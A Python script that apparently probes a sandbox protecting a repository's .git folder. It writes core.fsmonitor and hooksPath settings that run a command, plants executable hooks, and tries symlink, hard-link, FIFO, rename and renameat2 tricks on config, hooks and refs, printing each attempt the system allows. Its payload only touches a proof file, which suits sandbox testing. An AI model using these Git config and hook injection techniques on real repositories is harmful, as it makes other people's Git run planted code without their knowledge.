"""Tries to have the person's Git run something, or write elsewhere, from what commits need.

Works in the repository that it is started in. Prints each way that the system let through.
"""
import ctypes, os, socket, stat, subprocess, sys

outside, proof = sys.argv[1], sys.argv[2]
run = f"touch {proof}"
settings = f'[core]\n\tfsmonitor = "{run}"\n\thooksPath = {os.getcwd()}/evil\n'
tried = 0
libc = ctypes.CDLL(None, use_errno=True)


def attempt(name, act):
    global tried
    tried += 1
    try:
        act()
        print("let through:", name)
    except OSError as error:
        print("refused:", name, error.errno)


def exchange(one, other):
    AT_FDCWD, EXCHANGE = -100, 2
    if libc.renameat2(AT_FDCWD, one.encode(), AT_FDCWD, other.encode(), EXCHANGE) < 0:
        raise OSError(ctypes.get_errno(), "renameat2")


def put(path, text=settings):
    os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
    with open(path, "w") as file:
        file.write(text)


def link(target, path):
    if os.path.lexists(path):
        os.unlink(path)
    os.symlink(target, path)


os.makedirs("evil", exist_ok=True)
put("evil/post-commit", f"#!/bin/sh\n{run}\n")
put("evil/post-checkout", f"#!/bin/sh\n{run}\n")
for hook in os.listdir("evil"):
    os.chmod("evil/" + hook, 0o755)
os.symlink(outside, "to-outside")
os.mkfifo("a-pipe")

# What is written would be led elsewhere.
for name in ["logs/HEAD", "COMMIT_EDITMSG", "index.lock", "ORIG_HEAD", "refs/heads/x", "objects/zz"]:
    path = ".git/" + name
    attempt("link " + name, lambda: link(outside, path))
    attempt("link moved to " + name, lambda: os.rename("to-outside", path))
    attempt("link linked to " + name, lambda: os.link("to-outside", path, follow_symlinks=False))
    attempt("pipe at " + name, lambda: os.mkfifo(path + "x"))
    attempt("pipe moved to " + name, lambda: os.rename("a-pipe", path))
    attempt("socket at " + name, lambda: socket.socket(socket.AF_UNIX).bind(path + "y"))
    attempt("node at " + name, lambda: os.mknod(path + "z", stat.S_IFIFO | 0o600))
attempt("file linked in", lambda: os.link("note", ".git/logs/HEAD2"))
attempt("folder with links moved in", lambda: os.rename("evil", ".git/objects/evil"))
attempt("logs to a link", lambda: (os.rename(".git/logs", ".git/rr-cache"), os.symlink("..", ".git/logs")))

# Another repository, or other settings of this one.
for name in ["config", "config.lock", "config.worktree", "commondir", "gitdir", "info/attributes", "hooks/post-commit",
             "objects/info/alternates", "modules/x/config", "worktrees/x/commondir", "refs/remotes/x/config",
             "logs/config", "objects/x/HEAD", "refs/heads/HEAD", "objects/.git/config", "Config", "CONFIG~1"]:
    path = ".git/" + name
    attempt("write " + name, lambda: put(path))
    attempt("moved to " + name, lambda: (put(".git/MERGE_MSG"), os.rename(".git/MERGE_MSG", path)))
    attempt("linked to " + name, lambda: (put(".git/FETCH_HEAD"), os.link(".git/FETCH_HEAD", path)))
    attempt("exchanged with " + name, lambda: exchange(".git/FETCH_HEAD", path))
attempt("config opened to write", lambda: os.open(".git/config", os.O_RDWR))
attempt("config truncated", lambda: os.truncate(".git/config", 0))
attempt("config removed", lambda: os.unlink(".git/config"))
attempt("git's folder moved", lambda: os.rename(".git", "other"))
attempt("settings beside a remote's HEAD, made elsewhere",
        lambda: (put(".git/logs/r/config"), os.rename(".git/logs/r", ".git/refs/remotes/r")))
attempt("a folder of objects that is a repository",
        lambda: (put(".git/objects/q/config"), os.rename(".git/objects/q", ".git/refs/remotes/q")))
for line in [f"git config core.fsmonitor '{run}'", "git config --local alias.status '!true'", "git init --bare sub",
             "git worktree add ../wt", "git submodule add ./. sub", "git init --separate-git-dir=elsewhere ."]:
    subprocess.run(line, shell=True, capture_output=True)
    tried += 1
print(tried, "tried")
